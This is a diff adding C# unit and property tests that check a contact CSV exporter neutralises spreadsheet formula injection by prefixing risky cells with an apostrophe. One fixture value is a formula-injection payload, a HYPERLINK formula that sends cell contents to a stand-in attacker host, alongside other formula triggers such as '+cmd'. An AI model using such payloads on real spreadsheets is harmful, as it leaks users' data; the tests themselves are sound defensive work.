@@ -1,3 +1,5 @@
+using FsCheck;
+using FsCheck.Fluent;
 using Rapport.Formats.Csv;
 using Rapport.Formats.Records;
 
@@ -89,6 +91,43 @@ public class ContactCsvTest
         var e = Assert.Throws<ImportFormatException>(() => ContactCsv.Read(TestStreams.Utf8(csv), "bad.csv").ToList());
         Assert.Contains($"expected {expected} in \"{column}\"", e.Message, StringComparison.Ordinal);
     }
+
+    [Fact]
+    public void CellsASpreadsheetWouldRunAsFormulas_AreWrittenAsText_AndReadBackAsTheyWere()
+    {
+        var contact = new ImportedContact
+        {
+            DisplayName = "=HYPERLINK(\"http://evil.example/?x=\"&A1)", Company = "+cmd", Title = "-2+3", Notes = "@SUM(A1:A9)",
+            Phones = [new ImportedPhone("+49 30 1234", "Mobile")], Birthday = new PartialDate(12, 1), City = "'=quoted", Country = "'Tis",
+        };
+        var sw = new StringWriter();
+        ContactCsv.Write([contact], sw);
+
+        using var reader = new CsvReader(new StringReader(sw.ToString()), "out.csv");
+        reader.Read();
+        var cells = reader.Read()!.Fields;
+        Assert.All(cells, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell));
+        Assert.Equal("'=HYPERLINK(\"http://evil.example/?x=\"&A1)", cells[0]);
+        Assert.Equal("'+49 30 1234\tMobile", cells[ContactCsv.Header.ToList().IndexOf("Phones")]);
+        Assert.Equal("'--12-01", cells[ContactCsv.Header.ToList().IndexOf("Birthday")]);
+
+        var read = Assert.Single(ContactCsv.Read(TestStreams.Utf8(sw.ToString()), "out.csv"));
+        Assert.Equal(contact, read with { SourceLine = 0 });
+    }
+
+    [Fact]
+    public void NoCellOfAnyExport_StartsLikeAFormula() =>
+        Check.QuickThrowOnFailure(Prop.ForAll(Gen.ListOf(Properties.Contact, 3).ToArbitrary(), contacts =>
+        {
+            var sw = new StringWriter();
+            ContactCsv.Write(contacts, sw);
+            using var reader = new CsvReader(new StringReader(sw.ToString()), "out.csv");
+            while (reader.Read() is { } record)
+            {
+                foreach (var cell in record.Fields) Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell);
+            }
+            return true;
+        }));
 
     [Fact]
     public void RoundTrip_HoldsForArbitraryUnicodeContacts() =>
